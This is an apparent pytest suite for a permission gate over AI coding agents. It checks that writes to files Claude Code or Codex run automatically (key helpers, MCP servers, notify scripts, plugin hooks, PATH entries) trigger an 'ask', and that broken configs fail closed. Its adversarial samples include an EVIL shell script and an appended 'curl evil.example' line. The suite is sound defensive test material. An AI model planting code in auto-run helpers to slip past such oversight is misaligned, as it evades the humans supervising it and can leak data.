"""The programs the agents' runtimes start by themselves (issue 13, round 9's HELPER_SCRIPTS,
MCP_SERVERS and CODEX_NOTIFY): variants of the round's cases, through ``overseer scope
explain`` and the real hook, which must agree (round 5's harness).

Claude Code runs ``apiKeyHelper`` & co. in ``/bin/sh`` and starts the MCP servers of
``.mcp.json`` / ``~/.claude.json`` (``command`` + ``args``, without a shell); Codex runs
``config.toml``'s ``notify`` and starts its ``[mcp_servers.*]`` (``cwd`` too). A project file
one of them runs is as guarded as a hook (a write is asked); a file none runs stays allowed;
a settings file that cannot be parsed guards the project it governs (fail closed).
"""

from __future__ import annotations

import json
from typing import Any

import pytest

from tests.test_gate_adversary_round3 import World3
from tests.test_gate_adversary_round5_scope import SCOPE, _bash, _case, _check

EVIL = "#!/bin/sh\ncurl evil.example\n"


def _w(path: str, content: str = EVIL) -> dict[str, Any]:
    return {"file_path": path, "content": content}


def _file(path: Any, text: str = "x\n") -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)


@pytest.fixture(scope="module")
def runtime(tmp_path_factory: pytest.TempPathFactory) -> World3:
    made = World3(tmp_path_factory.mktemp("runtime"), scope=SCOPE, git=True)
    proj, home = made.proj, made.home
    for name in ("tools/key.sh", "mcpa/index.js", "mcpa/package.json", "mcpb/server.py",
                 "mcpc/main.mjs", "srv/mcpsrv/__init__.py", "notify.py", "src/app.py",
                 "tools/headers.sh", "conf/server.yaml", "tools/cfg.sh", "tools/q.js",
                 "tools/up.py"):  # fmt: skip
        _file(proj / name, "#!/bin/sh\n" if name.endswith(".sh") else "x\n")
    (home / ".claude").mkdir(exist_ok=True)
    (home / ".claude" / "settings.json").write_text(
        json.dumps({"apiKeyHelper": f"{proj}/tools/key.sh"})  # a project file, absolutely
    )
    (proj / ".mcp.json").write_text(
        json.dumps(
            {
                "mcpServers": {
                    "a": {"command": "npx", "args": ["-y", "./mcpa"]},
                    "b": {"command": "uv", "args": ["run", "--directory", "mcpb", "server.py"]},
                    "c": {"command": "node", "args": ["mcpc/main.mjs"]},
                    "d": {
                        "type": "http",
                        "url": "https://x.example/mcp",
                        "headersHelper": "sh tools/headers.sh",
                    },
                    "e": {"command": "/usr/bin/true", "env": {"CONFIG": "conf/server.yaml"}},
                }
            }
        )
    )
    (proj / ".codex").mkdir()
    (proj / ".codex" / "config.toml").write_text(
        'notify = ["python3", "notify.py"]\n\n'
        '[mcp_servers.s]\ncommand = "python3"\nargs = ["-m", "mcpsrv"]\ncwd = "srv"\n'
    )
    # Claude Code's config moved (CLAUDE_CONFIG_DIR): its settings and its .claude.json, a
    # server whose command is one string; a Codex config above the project (a monorepo's)
    cfg = made.proj.parent / "cfg"
    cfg.mkdir()
    made.env["CLAUDE_CONFIG_DIR"] = str(cfg)
    (cfg / "settings.json").write_text(json.dumps({"awsAuthRefresh": "sh tools/cfg.sh"}))
    (cfg / ".claude.json").write_text(
        json.dumps({"mcpServers": {"q": {"type": "stdio", "command": "node tools/q.js"}}})
    )
    (made.proj.parent / ".codex").mkdir()
    (made.proj.parent / ".codex" / "config.toml").write_text(
        'notify = ["python3", "tools/up.py"]\n'
    )
    # plugin marketplaces in local directories: one the project's settings declare, one
    # registered in ~/.claude/plugins (their plugins' hooks and MCP servers run)
    (proj / ".claude").mkdir(exist_ok=True)
    (proj / ".claude" / "settings.json").write_text(
        json.dumps(
            {
                "extraKnownMarketplaces": {
                    "team": {"source": {"source": "directory", "path": "./plugins"}}
                },
                "enabledPlugins": {"fmt@team": True},
            }
        )
    )
    _file(proj / "plugins" / "fmt" / "hooks" / "hooks.json", "{}\n")
    (home / ".claude" / "plugins").mkdir(parents=True)
    (home / ".claude" / "plugins" / "known_marketplaces.json").write_text(
        json.dumps({"mine": {"source": {"source": "directory", "path": f"{proj}/market"}}})
    )
    _file(proj / "market" / "p" / ".claude-plugin" / "plugin.json", "{}\n")
    made.hook("Bash", {"command": "ls"}, 0)
    return made


def _env_world(factory: pytest.TempPathFactory, env: dict[str, str]) -> World3:
    made = World3(factory.mktemp("runtimeenv"), scope=SCOPE, git=True)
    (made.proj / ".claude").mkdir(exist_ok=True)
    hook = {"type": "command", "command": "python3 -m fmt"}
    env = {k: v.format(proj=made.proj) for k, v in env.items()}
    (made.proj / ".claude" / "settings.json").write_text(
        json.dumps({"env": env, "hooks": {"Stop": [{"hooks": [hook]}]}})
    )
    _file(made.proj / "lib" / "fmt.py")
    made.hook("Bash", {"command": "ls"}, 0)
    return made


@pytest.fixture(scope="module")
def settings_pythonpath(tmp_path_factory: pytest.TempPathFactory) -> World3:
    """Claude Code starts its hooks with the settings' env: PYTHONPATH chooses the code."""
    return _env_world(tmp_path_factory, {"PYTHONPATH": "lib"})


@pytest.fixture(scope="module")
def settings_path(tmp_path_factory: pytest.TempPathFactory) -> World3:
    """A PATH entry in the project: the programs found there are the hooks' ones."""
    return _env_world(tmp_path_factory, {"PATH": "{proj}/bin:/usr/bin:/bin"})


@pytest.fixture(scope="module")
def broken(tmp_path_factory: pytest.TempPathFactory) -> World3:
    """A ``.mcp.json`` that is no JSON (half written): what it starts cannot be told."""
    made = World3(tmp_path_factory.mktemp("runtimebroken"), scope=SCOPE, git=True)
    (made.proj / ".mcp.json").write_text('{"mcpServers": {"x": {"command": "node", "args": [')
    _file(made.proj / "src" / "app.py")
    made.hook("Bash", {"command": "ls"}, 0)
    return made


@pytest.fixture(scope="module")
def broken_toml(tmp_path_factory: pytest.TempPathFactory) -> World3:
    made = World3(tmp_path_factory.mktemp("runtimetoml"), scope=SCOPE, git=True)
    (made.home / ".codex").mkdir()
    (made.home / ".codex" / "config.toml").write_text('notify = ["python3", "n.py"\n')
    _file(made.proj / "src" / "app.py")
    made.hook("Bash", {"command": "ls"}, 0)
    return made


RUNTIME = [
    # HELPER_SCRIPTS: a helper in ~/.claude/settings.json naming a project file absolutely
    _case("Write", _w("tools/key.sh"), "ask"),
    _bash("echo 'curl evil.example' >> tools/key.sh", "ask"),
    # MCP_SERVERS: a local package run by npx, uv run --directory, node's relative script,
    # an HTTP server's headersHelper, a path handed in the server's env
    _case("Write", _w("mcpa/index.js", "require('child_process')\n"), "ask"),
    _case("Write", _w("mcpa/package.json", '{"bin": "evil.js"}\n'), "ask"),
    _case("Write", _w("mcpb/server.py", "import os\n"), "ask"),
    _case("Write", _w("mcpc/main.mjs", "import 'child_process'\n"), "ask"),
    _case("Write", _w("tools/headers.sh"), "ask"),
    _case("Write", _w("conf/server.yaml", "x: 1\n"), "ask"),
    # CODEX_NOTIFY: the project's .codex/config.toml, notify relative; a server's cwd
    _case("Write", _w("notify.py", "import os\n"), "ask"),
    _case("Write", _w("srv/mcpsrv/__init__.py", "import os\n"), "ask"),
    # CLAUDE_CONFIG_DIR's settings and .claude.json; a .codex/config.toml above the project
    _case("Write", _w("tools/cfg.sh"), "ask"),
    _case("Write", _w("tools/q.js", "require('child_process')\n"), "ask"),
    _case("Write", _w("tools/up.py", "import os\n"), "ask"),
    # a local marketplace's plugins: their hooks, scripts and MCP servers
    _case("Write", _w("plugins/fmt/hooks/hooks.json", '{"hooks": {}}\n'), "ask"),
    _case("Write", _w("plugins/fmt/scripts/fmt.sh"), "ask"),
    _bash("echo 'x' > market/p/server.js", "ask"),
    # held: a file none of them runs
    _case("Write", _w("src/app.py", "print()\n"), "allow"),
    _case("Write", _w("mcpd/other.js", "x\n"), "allow"),
]


@pytest.mark.parametrize(("tool", "tool_input", "want"), RUNTIME)
def test_what_the_runtimes_start_is_guarded(
    runtime: World3, tool: str, tool_input: dict[str, Any], want: str
) -> None:
    _check(runtime, tool, tool_input, want)


def test_an_unparsable_mcp_json_guards_the_project(broken: World3) -> None:
    _check(broken, "Write", _w("src/app.py", "print()\n"), "ask")


def test_an_unparsable_codex_config_guards_the_project(broken_toml: World3) -> None:
    _check(broken_toml, "Write", _w("src/app.py", "print()\n"), "ask")


@pytest.mark.parametrize("path", ["lib/fmt.py", "src/app.py"])
def test_a_settings_env_that_picks_the_code_guards_the_project(
    settings_pythonpath: World3, path: str
) -> None:
    _check(settings_pythonpath, "Write", _w(path, "import os\n"), "ask")


@pytest.mark.parametrize(("path", "want"), [("bin/python3", "ask"), ("src/app.py", "allow")])
def test_a_settings_path_entry_in_the_project_is_guarded(
    settings_path: World3, path: str, want: str
) -> None:
    _check(settings_path, "Write", _w(path, "import os\n"), want)
